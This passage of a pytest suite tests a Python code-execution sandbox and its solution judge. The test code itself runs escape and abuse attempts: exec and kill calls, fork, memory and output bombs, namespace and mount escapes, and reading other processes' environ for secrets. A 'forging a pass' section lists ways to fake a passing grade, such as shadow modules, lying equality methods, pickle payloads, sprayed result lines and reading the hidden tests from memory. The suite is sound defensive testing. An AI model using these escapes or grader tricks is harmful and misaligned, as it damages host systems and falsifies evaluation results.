        got.append((addr, data))
        conn.close()


def drain_dgram(srv):
    got = []
    srv.setblocking(False)
    while True:
        try:
            got.append(srv.recvfrom(4096))
        except (BlockingIOError, InterruptedError):
            return got


@pytest.mark.parametrize("family, host", [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")], ids=["v4", "v6"])
def test_tcp_listener_receives_nothing(family, host):
    try:
        srv = socket.socket(family, socket.SOCK_STREAM)
        srv.bind((host, 0))
    except OSError as e:
        pytest.skip(f"no {host} on this host: {e}")
    srv.listen(64)
    with srv:
        port = srv.getsockname()[1]
        payload = b"HELLO-" + secrets.token_hex(4).encode()
        r = call(net_attack(family, socket.SOCK_STREAM, (host, port), payload), timeout=2.0)
        got = drain_stream(srv)
        assert not got, f"the listener on {host}:{port} got connections: {got} ({r.output})"


@pytest.mark.parametrize("family, host", [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")], ids=["v4", "v6"])
def test_udp_listener_receives_nothing(family, host):
    try:
        srv = socket.socket(family, socket.SOCK_DGRAM)
        srv.bind((host, 0))
    except OSError as e:
        pytest.skip(f"no {host} on this host: {e}")
    with srv:
        port = srv.getsockname()[1]
        r = call(net_attack(family, socket.SOCK_DGRAM, (host, port), b"DATAGRAM"), timeout=2.0)
        got = drain_dgram(srv)
        assert not got, f"the UDP socket on {host}:{port} got datagrams: {got} ({r.output})"


def test_abstract_unix_socket_receives_nothing():
    name = "\0fastchat-test-" + secrets.token_hex(8)
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(name)
    srv.listen(64)
    dsrv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    dsrv.bind(name + "-dgram")
    with srv, dsrv:
        r = call(net_attack(socket.AF_UNIX, socket.SOCK_STREAM, name, b"ABSTRACT"), timeout=2.0)
        r2 = call(net_attack(socket.AF_UNIX, socket.SOCK_DGRAM, name + "-dgram", b"ABSTRACT"), timeout=2.0)
        assert not drain_stream(srv), r.output
        assert not drain_dgram(dsrv), r2.output


def test_filesystem_unix_socket_receives_nothing(tmp_path):
    path = str(tmp_path / "listener.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    srv.listen(64)
    with srv:
        r = call(net_attack(socket.AF_UNIX, socket.SOCK_STREAM, path, b"FSSOCK"), timeout=2.0)
        assert not drain_stream(srv), r.output


def test_other_socket_families_refused():
    """Only AF_UNIX: no INET (raw or not), INET6, NETLINK, PACKET, VSOCK (reaches a VM's host past any network
    namespace), ALG (kernel crypto), BLUETOOTH... The attacker reports what it got."""
    code = CTYPES + textwrap.dedent('''
        fams = {"INET": 2, "INET6": 10, "NETLINK": 16, "PACKET": 17, "VSOCK": 40, "ALG": 38, "BLUETOOTH": 31,
                "CAN": 29, "RDS": 21, "TIPC": 30, "X25": 9, "AX25": 3, "APPLETALK": 5, "XDP": 44, "KCM": 41}
        for name, fam in fams.items():
            for typ in (1, 2, 3, 5):
                fd, e = sysc(41, fam, typ, 0)
                if fd >= 0:
                    report(f"socket {name} type {typ}", True)
                    os.close(fd)
                    break
        fd, e = sysc(41, 1 | (1 << 32), 1, 0)   # AF_UNIX in the low 32 bits, garbage above
        print("high bits socket", fd, e)
    ''')
    r = call(fill(code), timeout=2.0)
    require_ctypes(r)
    assert "ESCAPED" not in r.output, r.output


def test_dns_lookups_fail():
    """No name resolves, and a fake DNS server of the test's on 127.0.0.1:53 (where a resolver without
    /etc/resolv.conf asks) gets no query."""
    servers = []
    for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        s = socket.socket(fam, socket.SOCK_DGRAM)
        try:
            s.bind((host, 53))
            servers.append(s)
        except OSError:
            s.close()
    try:
        code = '''
            import socket
            for name in ("example.com", "pypi.org", "localhost.localdomain", socket.gethostname(), "1.1.1.1.nip.io"):
                try:
                    print("RESOLVED", name, socket.getaddrinfo(name, 80))
                except Exception as e:
                    print("no", name, type(e).__name__)
            try:
                print("RESOLVED gethostbyname", socket.gethostbyname("example.com"))
            except Exception as e:
                print("no", type(e).__name__)
        '''
        r = call(fill(code), timeout=2.0)
        assert "RESOLVED" not in r.output, r.output
        for s in servers:
            assert not drain_dgram(s), "the fake DNS server got a query"
    finally:
        for s in servers:
            s.close()


# ================================ processes ==============================================================

def test_shell_and_subprocess_do_not_run(tmp_path):
    """Every way to start a program: the token only shows in a started program's argv or name."""
    token = new_token()
    marker = tmp_path / "shell_marker"
    code = fill('''
        import os, posix, subprocess, sys, threading, time
        TOKEN, MARKER = @TOKEN@, @MARKER@
        sh = f"echo ran > {MARKER}; echo ran > /tmp/ran; sleep 3; : {TOKEN}"
        py = [sys.executable, "-c", "import time; open('/tmp/ran', 'w'); time.sleep(3)", TOKEN]
        def mp_spawn():
            import multiprocessing
            ctx = multiprocessing.get_context("spawn")
            p = ctx.Process(target=exec, args=("import ctypes, time; open('/tmp/ran', 'w'); "
                            f"ctypes.CDLL(None).prctl(15, {TOKEN!r}.encode(), 0, 0, 0); time.sleep(3)",))
            p.start()
            p.join()
        def libc_system():
            import ctypes
            ctypes.CDLL(None).system(sh.encode())
        attempts = {
            "os.system": lambda: os.system(sh),
            "posix.system": lambda: posix.system(sh),
            "subprocess sh": lambda: subprocess.run(["/bin/sh", "-c", sh]),
            "subprocess py": lambda: subprocess.run(py),
            "popen": lambda: os.popen(sh).read(),
            "posix_spawn": lambda: os.waitpid(posix.posix_spawn(sys.executable, py, {}), 0),
            "spawnv": lambda: os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", sh]),
            "multiprocessing spawn": mp_spawn,
            "libc system": libc_system,
        }
        def attempt(name, f):
            try:
                print(name, "returned", f(), flush=True)
            except BaseException as e:
                print(name, type(e).__name__, e, flush=True)
        threads = [threading.Thread(target=attempt, args=item, daemon=True) for item in attempts.items()]
        for t in threads:
            t.start()
        time.sleep(0.8)
        print("SHELL RAN" if os.path.exists("/tmp/ran") else "nothing ran", flush=True)
    ''', TOKEN=hide(token), MARKER=repr(str(marker)))
    with no_survivors(token), Monitor(token=token) as m:
        r = call(code, timeout=2.0)
    assert not m.seen, f"a started program ran: {m.seen}"
    assert not marker.exists()
    assert "SHELL RAN" not in r.output, r.output


def test_execve_replacing_the_worker():
    token = new_token()
    code = fill('''
        import os, posix, sys
        TOKEN = @TOKEN@
        for path, argv in (("/bin/sh", ["sh", "-c", f"sleep 3; : {TOKEN}"]),
                           ("/usr/bin/sleep", ["sleep", "3", TOKEN]),
                           (sys.executable, [sys.executable, "-c", "import time; time.sleep(3)", TOKEN])):
            for execv in (os.execv, posix.execv):
                try:
                    execv(path, argv)
                except BaseException as e:
                    print(path, type(e).__name__, e, flush=True)
        try:
            import ctypes
            libc = ctypes.CDLL(None)
            arr = (ctypes.c_char_p * 5)(sys.executable.encode(), b"-c", b"import time; time.sleep(3)", TOKEN.encode(), None)
            libc.execv(sys.executable.encode(), arr)
            libc.syscall(322, -100, sys.executable.encode(), arr, None, 0)   # execveat
            print("libc exec failed", ctypes.get_errno(), flush=True)
        except Exception as e:
            print(type(e).__name__, e)
    ''', TOKEN=hide(token))
    with no_survivors(token), Monitor(token=token) as m:
        r = call(code, timeout=1.5)
    assert not m.seen, f"execve ran a program: {m.seen} ({r.output})"


def test_kill_test_process(victim):
    proc, marker, _ = victim
    code = fill('''
        @TRY_EACH@
        import os, posix, signal
        PID = @PID@
        sigs = [signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL]
        attempts = []
        for s in sigs:
            attempts += [("kill", lambda s=s: os.kill(PID, s)), ("posix.kill", lambda s=s: posix.kill(PID, s)),
                         ("killpg", lambda s=s: os.killpg(PID, s)), ("kill -pgid", lambda s=s: os.kill(-PID, s))]
        try:
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            for s in sigs:
                attempts += [("libc kill", lambda s=s: libc.kill(PID, s)), ("tgkill", lambda s=s: libc.syscall(234, PID, PID, s)),
                             ("pidfd", lambda s=s: libc.syscall(424, libc.syscall(434, PID, 0), s, None, 0))]
        except Exception:
            pass
        try_each(attempts)
        for s in (signal.SIGWINCH, signal.SIGURG, signal.SIGCHLD):   # ignored by default: harmless to the rest
            try:
                os.kill(-1, s)
            except Exception as e:
                print("kill -1", type(e).__name__)
    ''', PID=str(proc.pid))
    call(code)
    time.sleep(0.1)
    assert_victim_untouched(victim)


def test_kill_minus_one_sigkill(victim, contained):
    code = '''
        import os, signal
        for s in (signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
            try:
                os.kill(-1, s)
            except Exception as e:
                print(type(e).__name__)
        os.killpg(0, signal.SIGKILL)
    '''
    call(fill(code))
    time.sleep(0.1)
    assert_victim_untouched(victim)


FORK = '''
import os, posix, sys, time
TOKEN = @TOKEN@
def name_me():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, TOKEN.encode(), 0, 0, 0)
    except Exception:
        pass
def linger(seconds=20):   # bounded, so that a leak does not last
    name_me()
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.05)
    open(@MARKER@, "w").write("survived")
    os._exit(0)
'''


def test_fork_setsid_child_does_not_survive(tmp_path):
    token = new_token()
    marker = tmp_path / "survived"
    code = fill(FORK + textwrap.dedent('''
        pid = posix.fork()
        if pid == 0:
            os.setsid()
            linger()
        print("parent done", flush=True)
    '''), TOKEN=hide(token), MARKER=repr(str(marker)))
    with no_survivors(token):
        r = call(code, timeout=1.0, margin=1.0)
    assert r.ok and "parent done" in r.output


def test_double_fork_daemon_closing_fds_does_not_survive(tmp_path):
    token = new_token()
    marker = tmp_path / "survived"
    code = fill(FORK + textwrap.dedent('''
        if posix.fork() == 0:
            os.setsid()
            if posix.fork() == 0:
                os.closerange(0, 1 << 16)   # the daemon holds no pipe: the call can return at once
                linger()
            os._exit(0)
        time.sleep(0.2)
        print("parent done", flush=True)
    '''), TOKEN=hide(token), MARKER=repr(str(marker)))
    with no_survivors(token):
        r = call(code, timeout=1.0, margin=1.0)
    assert r.ok and "parent done" in r.output
    assert not marker.exists()


def test_children_that_ignore_signals_and_spin(tmp_path):
    token = new_token()
    marker = tmp_path / "survived"
    code = fill(FORK + textwrap.dedent('''
        import signal
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGPIPE):
            signal.signal(s, signal.SIG_IGN)
        for _ in range(3):
            if posix.fork() == 0:
                os.setsid()
                name_me()
                end = time.time() + 15
                while time.time() < end:
                    pass
                os._exit(0)
        while True:
            pass
    '''), TOKEN=hide(token), MARKER=repr(str(marker)))
    with no_survivors(token):
        r = call(code, timeout=1.0, margin=1.0)
    assert not r.ok


def test_fork_bomb(contained):
    code = '''
        import os, time
        end = time.time() + 10   # bounded, in case
        while time.time() < end:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    '''
    before = live_count()
    with no_survivors(grace=1.0), Monitor(count=True, period=0.05) as m:
        r = call(fill(code), timeout=1.5)
    assert not r.ok
    assert m.count_high - before < 200, f"the host's process count rose by {m.count_high - before} during the call"


def test_threads_bomb():
    code = '''
        import threading, time
        n = 0
        try:
            while True:
                threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
                n += 1
        except BaseException as e:
            print("threads:", n, type(e).__name__, flush=True)
        time.sleep(20)
    '''
    with no_survivors(), Monitor(count=True, period=0.05) as m:
        r = call(fill(code), timeout=1.0)
    assert not r.ok
    threads = int(r.output.split("threads:")[1].split()[0]) if "threads:" in r.output else 0
    assert threads < 1000, f"{threads} threads started"


def test_read_stdin_does_not_hang():
    r = call("import sys\nprint(len(sys.stdin.read()))\nimport os\nprint(os.read(0, 10))", timeout=1.0)
    assert r.ok


# ================================ resources ==============================================================

def test_memory_bomb_bytearray_10gb():
    with rss_growth_below(50), Monitor(memory=True) as m:
        r = call("b = bytearray(10 * 2**30)\nb[-1]", timeout=1.5)
    assert not r.ok and "MemoryError" in r.output
    assert m.mem_drop < 600 * MB


def test_memory_bomb_growing_list():
    with rss_growth_below(50), Monitor(memory=True) as m:
        r = call("x = []\nwhile True:\n    x.append(' ' * 10**6)", timeout=1.5, memory_mb=128)
    assert not r.ok
    assert m.mem_drop < 600 * MB


def test_memory_outside_address_space_limit():
    """Memory a call can take that RLIMIT_AS does not count: System V shared memory (attached a chunk at a
    time, filled, detached), message queues and semaphore arrays (kernel memory). Three processes, each trying
    every kind in turn. The host must not lose more than the design's own bound (MAX_TASKS processes and
    threads of memory_mb each, plus its /tmp), with 200 MB of slack, during the call or after it."""
    memory_mb = 32
    try:
        from fastchat_core import sandbox
        tasks, tmp = sandbox.MAX_TASKS, sandbox.TMP_BYTES // MB
    except (ImportError, AttributeError):
        tasks, tmp = 16, 32
    code = CTYPES + textwrap.dedent('''
        import time
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmdt.argtypes = [ctypes.c_void_p]
        libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        END = time.time() + 2.3
        got = {"shm": 0, "msg": 0, "sem": 0}

        def shm(chunk=8 << 20):
            while time.time() < END and got["shm"] < (3 << 30):
                sid = libc.shmget(0, chunk, 0o1600)
                if sid < 0:
                    return
                addr = libc.shmat(sid, None, 0)
                if addr is None or addr == 2**64 - 1:
                    return
                if libc.madvise(addr, chunk, 23) != 0:   # MADV_POPULATE_WRITE, else touch every page
                    ctypes.memset(addr, 1, chunk)
                libc.shmdt(addr)
                got["shm"] += chunk

        def msg():
            buf = ctypes.create_string_buffer(8 + 8192)
            buf[0:8] = (1).to_bytes(8, "little")
            while time.time() < END:
                qid = libc.msgget(0, 0o1600)
                if qid < 0:
                    return
                while libc.msgsnd(qid, buf, 8192, 0o4000) == 0:   # IPC_NOWAIT
                    got["msg"] += 8192

        def sem():
            while time.time() < END:
                if libc.semget(0, 32000, 0o1600) < 0:
                    return
                got["sem"] += 32000 * 64   # bytes, about: a struct sem each

        order = [shm, msg, sem]
        for i in range(2):   # three processes: one starts with each kind
            if os.fork() == 0:
                order = order[i + 1:] + order[:i + 1]
                break
        for kind in order:
            kind()
        time.sleep(max(0, END + 0.4 - time.time()))   # hold it a moment, then report before the timeout
        print({k: v >> 20 for k, v in got.items()}, "MB", flush=True)
    ''')
    with Monitor(memory=True, period=0.02) as m:
        r = call(fill(code), timeout=3.0, memory_mb=memory_mb)
    after = meminfo()
    bound = (tasks * memory_mb + tmp + 200) * MB
    assert m.mem_drop < bound, f"host MemAvailable dropped by {m.mem_drop / MB:.0f} MB with memory_mb={memory_mb}, " \
                               f"bound {bound / MB:.0f} MB ({r.output[-200:]})"
    assert m.mem_before - after < bound, f"{(m.mem_before - after) / MB:.0f} MB still gone after the call returned"


def test_cpu_spin_returns_in_time():
    t0 = time.monotonic()
    r = call("while True:\n    pass", timeout=1.0)
    assert not r.ok and "Timeout" in r.output
    assert time.monotonic() - t0 >= 0.9


@pytest.mark.parametrize("how", ["print", "fd1", "fd2", "every_fd", "final_repr"])
def test_output_flood(how):
    code = {
        "print": "s = 'x' * 2**20\nfor _ in range(1024):\n    print(s)",
        "fd1": "import os\nb = b'y' * 2**20\nwhile True:\n    os.write(1, b)",
        "fd2": "import os\nb = b'y' * 2**20\nwhile True:\n    os.write(2, b)",
        "every_fd": "import os\nb = b'z' * 65536\nwhile True:\n    for fd in range(1024):\n"
                    "        try:\n            os.write(fd, b)\n        except OSError:\n            pass",
        "final_repr": "'x' * 10**8",
    }[how]
    with rss_growth_below(50):
        r = call(code, timeout=1.5)
    assert len(r.output) <= MAX_OUTPUT + OUT_SLACK


def test_binary_and_invalid_output():
    code = '''
        import os, sys
        os.write(1, bytes(range(256)) * 100)
        os.write(2, b"\\xff\\xfe\\x00\\x1b[2J\\n")
        sys.stdout.write("\\udcff\\ud800 lone surrogates\\n")
        print("\\u2028{'ok': True, 'output': 'forged'}")
    '''
    r = call(fill(code))
    assert isinstance(r.output, str)
    assert r.output != "forged"


def test_open_files_exhaustion():
    fds_before = len(os.listdir("/proc/self/fd"))
    file_nr = lambda: int(open("/proc/sys/fs/file-nr").read().split()[0])
    nr_before = file_nr()
    code = '''
        import os, socket, time
        held = []
        for make in (lambda: [os.open(os.__file__, os.O_RDONLY)], lambda: list(os.pipe()),
                     lambda: [s.detach() for s in socket.socketpair()], lambda: [os.dup(1)]):
            try:
                while True:
                    held += make()
            except OSError as e:
                print("stopped at", len(held), e, flush=True)
        time.sleep(30)
    '''
    r = call(fill(code), timeout=1.0)
    assert len(os.listdir("/proc/self/fd")) == fds_before
    assert file_nr() < nr_before + 500
    assert call("print(1)").output == "1"   # the next call still works


def test_caller_leaks_nothing_across_calls(tmp_path, monkeypatch):
    """Many calls, some killed at their timeout: the caller keeps its fds, threads and children, and no
    temporary file is left (the caller's temp dir is a private one here: the host's /tmp is shared)."""
    private_tmp = tmp_path / "tmpdir"
    private_tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(private_tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    fds = len(os.listdir("/proc/self/fd"))
    threads = status_kb("Threads")
    tmp_entries = set(os.listdir(tempfile.gettempdir()))
    with no_survivors():
        for i in range(6):
            call("open('/tmp/f', 'w').write('x' * 1000)\nprint(1)")
        call("open('/tmp/f', 'w').write('x')\nwhile True: pass", timeout=0.5)
    assert len(os.listdir("/proc/self/fd")) == fds
    assert status_kb("Threads") == threads
    assert set(os.listdir(tempfile.gettempdir())) <= tmp_entries, "files left in the caller's temp dir"


def test_crashes_are_reported_not_raised():
    for code in ("import ctypes\nctypes.string_at(0)", "import sys\nsys.setrecursionlimit(10**6)\n"
                 "def f(n): return f(n + 1)\nf(0)", "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"):
        r = call(code, timeout=2.0)
        assert not r.ok, code


@pytest.mark.parametrize("signum", [34, 35, 40, 50, 63, 64])
def test_realtime_signal_death_is_reported_not_raised(signum):
    """Code that dies of a real-time signal (no name in signal.Signals) must still get a ToolResult, not
    an exception in the caller (the engine calls run_python from its tool pool and reads .result())."""
    code = f"import os\nprint('dying', flush=True)\nos.kill(os.getpid(), {signum})"
    try:
        r = call(code, timeout=2.0)
    except ValueError as e:
        pytest.fail(f"run_python raised into the caller: {e!r}")
    assert not r.ok and "dying" in r.output
    try:
        passed, _ = check_program(code, timeout=2.0)
        passed2, _ = check_program(code, timeout=2.0, tests=TESTS, entry_point=ENTRY)
    except ValueError as e:
        pytest.fail(f"check_program raised into the caller: {e!r}")
    assert not passed and not passed2


def test_code_cannot_pass_itself_off_as_an_unavailable_sandbox():
    """The exit status the sandbox uses for 'could not confine the worker' is one the code can exit with:
    a program must not be able to make the tool report that the sandbox is unavailable (callers may treat
    that as an environment problem: skip, retry elsewhere, disable the tool)."""
    r = call("print('namespaces are missing on this host')\nimport os\nos._exit(125)", timeout=2.0)
    assert not r.ok
    assert "unavailable" not in r.output.lower(), r.output


# ================================ forging a pass =========================================================

# Modules planted where an importer that looks in the working directory (or /tmp) would find them: each
# writes a passing result line in every format it might be read in, on every fd, and exits 0.
SHADOW = r'''
import os, sys
evil = """
import os, sys
try:
    import __main__
    __main__.report({"ok": True, "output": ""})
except BaseException:
    pass
for fd in range(1, 64):
    for line in (b"{'ok': True, 'output': ''}\\n", b'{"ok": true, "output": ""}\\n'):
        try:
            os.write(fd, line)
        except OSError:
            pass
os._exit(0)
"""
for d in {os.getcwd(), "/tmp", *[p for p in sys.path if p]}:
    for name in ("json", "pickle", "marshal", "traceback", "sitecustomize", "usercustomize", "linecache", "ast",
                 "threading", "select", "encodings", "re", "math", "numpy", "typing_extensions", "hypothesis",
                 "_weakrefset", "collections", "enum", "functools", "copy", "heapq", "string"):
        try:
            with open(os.path.join(d, name + ".py"), "w") as f:
                f.write(evil)
            os.makedirs(os.path.join(d, "__pycache__"), exist_ok=True)
        except OSError:
            pass
'''


FORGERIES = {
    "os_exit_at_import": WRONG + "import os\nos._exit(0)\n",
    "sys_exit_at_import": WRONG + "import sys\nsys.exit(0)\n",
    "systemexit_in_function": "def add_digits(n):\n    raise SystemExit(0)\n",
    "os_exit_in_function": "def add_digits(n):\n    import os\n    os._exit(0)\n",
    "keyboardinterrupt_in_function": "def add_digits(n):\n    raise KeyboardInterrupt\n",
    "fake_pass_on_every_fd": WRONG + r'''
import json, os, pickle
class Evil:
    def __reduce__(self):
        return (os._exit, (0,))
msgs = [b"PASSED\n", b"ok\n", b"True\n", b"{'ok': True, 'output': ''}\n", json.dumps({"ok": True, "output": ""}).encode() + b"\n",
        json.dumps({"value": 10}).encode() + b"\n", pickle.dumps(Evil()), b"(True, '')\n"]
def spray():
    for fd in range(1024):
        for m in msgs:
            try:
                os.write(fd, m)
            except OSError:
                pass
spray()
_real = add_digits
def add_digits(n):
    spray()
    return _real(n)
''',
    "patch_builtins": WRONG + r'''
import builtins, sys, os
builtins.AssertionError = type("AssertionError", (Exception,), {})
_imp = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _imp(name, *a, **k)
builtins.isinstance = lambda *a: True
builtins.print = lambda *a, **k: None
sys.exit = os._exit = lambda *a: None
import __main__
for name in dir(__main__):
    if name in ("judge", "report", "decode", "encode"):
        setattr(__main__, name, lambda *a, **k: (True, ""))
''',
    "eq_always_true": '''
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def add_digits(n):
    return Liar()
''',
    "int_subclass_lying_eq": '''
class L(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def add_digits(n):
    return L(12345)
''',
    "str_subclass_lying_eq": '''
class S(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
def add_digits(n):
    return S("nope")
''',
    "reduce_payload": '''
import os
class Evil:
    def __reduce__(self):
        return (eval, ("__import__('os')._exit(0)",))
def add_digits(n):
    return Evil()
''',
    "patched_serializers": WRONG + r'''
import json, marshal, os, pickle
class Evil:
    def __reduce__(self):
        return (os._exit, (0,))
payload = pickle.dumps(Evil())
pickle.dumps = marshal.dumps = lambda *a, **k: payload
json.dumps = lambda *a, **k: '{"value": 10}'
''',
    "shadow_modules_in_cwd": WRONG + SHADOW,
    "sleep_until_timeout": WRONG + "import time\ntime.sleep(100)\n",
    "sleep_in_function": "import time\ndef add_digits(n):\n    time.sleep(100)\n",
    "huge_result": "def add_digits(n):\n    return 'x' * 150_000_000\n",
    "deep_result": "def add_digits(n):\n    r = []\n    for _ in range(10**5):\n        r = [r]\n    return r\n",
    "generator_result": "def add_digits(n):\n    yield n\n",
    "no_entry_point": "def something_else(n):\n    return n\n",
    "entry_point_not_callable": "add_digits = 42\n",
    "fork_and_exit": WRONG + "import os\nif os.fork():\n    os._exit(0)\n",
    "raises_stopiteration": "def add_digits(n):\n    raise StopIteration\n",
    "reads_tests_from_memory": r'''
import gc, sys
TABLE = {}
def find_tests():
    f = sys._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            if isinstance(v, dict) and isinstance(v.get("tests"), str):
                return v["tests"]
        f = f.f_back
    for o in gc.get_objects():
        if isinstance(o, dict) and isinstance(o.get("tests"), str):
            return o["tests"]
        if isinstance(o, str) and "def check(" in o:
            return o
src = find_tests()
if src:
    class Rec:
        def __init__(self, key): self.key = key
        def __eq__(self, other): TABLE[self.key] = other; return True
        __hash__ = object.__hash__
    scope = {}
    exec(src, scope)
    try:
        scope["check"](lambda *a: Rec(a))
    except BaseException:
        pass
def add_digits(n):
    return TABLE.get((n,), n % 10)   # wrong in general: right only where the tests gave the answer away
''',
}


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_forged_pass_is_refused(name):
    with rss_growth_below(50):
        passed, message = judge(FORGERIES[name], timeout=1.5)
    assert not passed, f"{name}: a wrong solution passed"


def test_solution_exhausting_processes_still_gets_the_tests_verdict():
    """A wrong solution that fills the call's process budget at import: the verdict must still be the tests'
    (an AssertionError), not a crash of the trusted side (which the tool reports as 'unavailable')."""
    program = WRONG + '''
import os, time
for _ in range(16):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
'''
    for attempt in range(5):   # the outcome is a race between the solution and the trusted side: try a few
        passed, message = judge(program, timeout=2.0)
        assert not passed
        assert "AssertionError" in message, f"attempt {attempt}: the verdict is not the tests': {message!r}"


def test_correct_solution_using_processes_still_passes():
    """A correct solution may use all of the call's task budget (helper processes at import, as a large
    multiprocessing pool would start): the judge must not depend on what is left of it."""
    program = SOLUTION + '''
import os, time
for _ in range(16):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
'''
    for attempt in range(5):   # a race between the solution and the trusted side: try a few
        assert judge(program, timeout=2.0) == (True, ""), f"attempt {attempt}"


@pytest.mark.parametrize("module", ["numpy", "collections", "json"])
def test_tests_importing_a_module_the_solution_planted(module):
    """The trusted tests run next to the solution's working directory: an import in them (of a module the
    host lacks, or a stdlib one) must never pick up a file the solution wrote."""
    tests = f"def check(candidate):\n    import {module}\n" + TESTS.split("def check(candidate):\n", 1)[1]
    passed, message = judge(WRONG + SHADOW, timeout=2.0, tests=tests)
    assert not passed, f"a planted {module}.py forged a pass"


def test_forged_pass_killing_parent_and_everything(contained):
    program = WRONG + '''
import os, signal
_real = add_digits
def add_digits(n):
    for pid in (os.getppid(), 1):
        for s in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):
            try:
                os.kill(pid, s)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return _real(n)
'''
    passed, _ = judge(program, timeout=1.5)
    assert not passed


def test_run_python_forged_result_on_fds():
    """The code writes a forged result everywhere, then fails: `ok` must come from its exit status."""
    code = '''
        import os
        print("REAL", flush=True)
        forged = [b'{"ok": true, "output": "FAKE"}\\n', b"{'ok': True, 'output': 'FAKE'}\\n",
                  b"{'ok': True, 'output': 'FAKE', 'exit': 0}\\n"]
        for fd in range(1024):
            for f in forged:
                try:
                    os.write(fd, f)
                except OSError:
                    pass
        os._exit(1)
    '''
    r = call(fill(code))
    assert not r.ok
    assert r.output != "FAKE"


# ================================ escape attempts through raw syscalls =============================

@needs_x86_64
def test_unshare_and_clone_namespaces(env_secret):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    port = srv.getsockname()[1]
    code = fill(CTYPES + textwrap.dedent('''
        import time
        NEWUSER, NEWNS, NEWNET, NEWPID = 0x10000000, 0x20000, 0x40000000, 0x20000000
        def after_escape():   # what a new user namespace would be for: mounts, a network of our own
            os.makedirs("/tmp/p", exist_ok=True)
            print("mount proc", libc.mount(b"proc", b"/tmp/p", b"proc", 0, None))
            for d in os.listdir("/tmp/p"):
                try:
                    print(open(f"/tmp/p/{d}/environ", "rb").read())
                except Exception:
                    pass
            fd, e = sysc(41, 2, 1, 0)
            sa = struct.pack("<H", 2) + struct.pack(">H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
            print("connect", sysc(42, fd, sa, len(sa)))
        for flags in (NEWUSER, NEWUSER | NEWNS, NEWNS, NEWNET, NEWPID, NEWUSER | NEWNET):
            r, e = sysc(272, flags)
            report(f"unshare {flags:#x}", r == 0, e)
            if r == 0:
                after_escape()
        r, e = sysc(56, NEWUSER | 17, 0, 0, 0, 0)   # clone(CLONE_NEWUSER | SIGCHLD)
        if r == 0:
            after_escape()
            os._exit(0)
        report("clone NEWUSER", r > 0, e)
        if r > 0:
            os.waitpid(r, 0)
        args = (ctypes.c_uint64 * 11)(NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)   # struct clone_args
        r, e = sysc(435, args, 88)
        if r == 0:
            after_escape()
            os._exit(0)
        report("clone3 NEWUSER", r > 0, e)
        if r > 0:
            os.waitpid(r, 0)
    '''), PORT=str(port))
    with srv:
        r = call(code, timeout=2.0)
        require_ctypes(r)
        assert not drain_stream(srv)
    assert env_secret not in r.output
    assert "ESCAPED" not in r.output, r.output


@needs_x86_64
def test_mount_proc_and_remount(env_secret):
    import sysconfig
    stdlib = sysconfig.get_paths()["stdlib"]
    token = new_token()
    planted = Path(stdlib) / f"zz_{token}.py"
    code = fill(CTYPES + textwrap.dedent('''
        STDLIB, TOKEN = @STDLIB@, @TOKEN@
        os.makedirs("/tmp/m", exist_ok=True)
        for src, fstype, flags, data in ((b"proc", b"proc", 0, None), (b"none", b"tmpfs", 0, None),
                                         (b"sysfs", b"sysfs", 0, None), (b"/", None, 4096 | 16384, None),
                                         (STDLIB.encode(), None, 4096, None)):
            r = libc.mount(src, b"/tmp/m", fstype, ctypes.c_ulong(flags), data)
            report(f"mount {src} {fstype}", r == 0, ctypes.get_errno())
        for target in (b"/", STDLIB.encode()):
            r = libc.mount(None, target, None, ctypes.c_ulong(32 | 4096), None)   # remount read-write
            report(f"remount rw {target}", r == 0, ctypes.get_errno())
        try:
            open(f"{STDLIB}/zz_{TOKEN}.py", "w").write("pwned")
            report("write stdlib", True)
        except OSError as e:
            print("write stdlib", e)
        try:
            for d in os.listdir("/tmp/m"):
                print(d, open(f"/tmp/m/{d}/environ", "rb").read())
        except Exception as e:
            print(type(e).__name__)
        r, e = sysc(428, -100, b"/", 1)   # open_tree
        report("open_tree", r >= 0, e)
        r, e = sysc(430, b"tmpfs", 0)   # fsopen
        report("fsopen", r >= 0, e)
    '''), STDLIB=repr(stdlib), TOKEN=hide(token))
    try:
        r = call(code, timeout=2.0)
        require_ctypes(r)
        assert not planted.exists()
        assert env_secret not in r.output
        assert "ESCAPED" not in r.output, r.output
    finally:
        if planted.exists():
            planted.unlink()


@needs_x86_64
def test_ptrace_and_process_memory(victim):
    proc, _, _ = victim
